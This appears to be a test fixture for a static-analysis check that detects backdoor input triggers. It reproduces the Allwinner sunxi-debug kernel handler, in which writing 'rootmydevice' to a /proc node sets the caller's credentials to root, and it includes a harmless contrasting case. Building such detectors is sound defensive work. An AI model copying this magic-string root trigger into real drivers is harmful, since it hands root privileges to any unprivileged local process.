// RUN: %run-both --checks=backdoor-input-trigger %s -- | FileCheck %s -check-prefix=CHECK-MESSAGES -implicit-check-not="{{warning|error}}:"
// A kernel's copies from user space are what an unprivileged process wrote:
// Allwinner's sunxi-debug (2016) gave root to whoever wrote "rootmydevice"
// to a world-writable /proc node. One finding for one match, however many
// credential fields it zeroes.
typedef unsigned long size_t;
typedef long ssize_t;
typedef long long loff_t;
struct file;
struct cred { unsigned uid, gid, suid, sgid, euid, egid, fsuid, fsgid; };
struct task_struct { const struct cred *cred; };
extern struct task_struct *current;
unsigned long copy_from_user(void *to, const void *from, unsigned long n);
void *kmalloc(size_t n, int flags);
void kfree(const void *p);
int strncmp(const char *a, const char *b, size_t n);
int printk(const char *fmt, ...);
#define GLOBAL_ROOT_UID 0
#define GLOBAL_ROOT_GID 0

static ssize_t sunxi_proc_su_write(struct file *file, const char *buffer, size_t count, loff_t *data) {
  char *buf;
  struct cred *cred;
  (void)file;
  (void)data;
  buf = kmalloc(count, 0);
  if (!buf) return -12;
  if (copy_from_user(buf, buffer, count)) {
    kfree(buf);
    return -14;
  }
  // ruleid: backdoor-input-trigger
  if (!strncmp("rootmydevice", (char *)buf, 12)) {
    // CHECK-MESSAGES: :[[@LINE-1]]:7: warning: input read by 'copy_from_user' is compared with the constant "rootmydevice" and only a match reaches 'uid = 0' (a change to root privileges); whoever sends the constant gets root privileges [backdoor-input-trigger]
    cred = (struct cred *)current->cred;
    cred->uid = GLOBAL_ROOT_UID;
    cred->gid = GLOBAL_ROOT_GID;
    cred->euid = GLOBAL_ROOT_UID;
    cred->egid = GLOBAL_ROOT_GID;
    printk("now you are root\n");
  }
  kfree(buf);
  return count;
}

static ssize_t standby_write(struct file *file, const char *buffer, size_t count, loff_t *data) {
  char mode[16];
  (void)file;
  (void)data;
  if (count >= sizeof mode || copy_from_user(mode, buffer, count)) return -14;
  mode[count] = 0;
  // ok: backdoor-input-trigger
  if (!strncmp("mem", mode, 3)) printk("standby: mem\n");
  return count;
}
